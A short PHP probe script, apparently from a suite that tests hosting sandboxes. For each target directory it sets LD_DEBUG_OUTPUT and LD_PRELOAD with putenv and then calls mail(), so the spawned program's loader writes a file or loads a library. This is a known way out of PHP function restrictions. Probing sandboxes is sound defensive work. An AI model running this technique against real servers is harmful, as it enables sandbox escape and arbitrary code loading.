<?php
// mail() starts a program, and the environment tells its loader what to do: write a file at a place of one's choice.
require_once __DIR__ . '/../prelude.php';
need_functions('putenv', 'mail');
foreach ($victim->directories as $directory) {
    putenv('LD_DEBUG=libs');
    putenv("LD_DEBUG_OUTPUT=$directory/hostel-prove-$victim->run-loader");
    putenv("LD_PRELOAD=$directory/hostel-prove-$victim->run.so");
    attempt("mail, $directory", fn() => mail('nobody@invalid', 'x', 'x'));
}
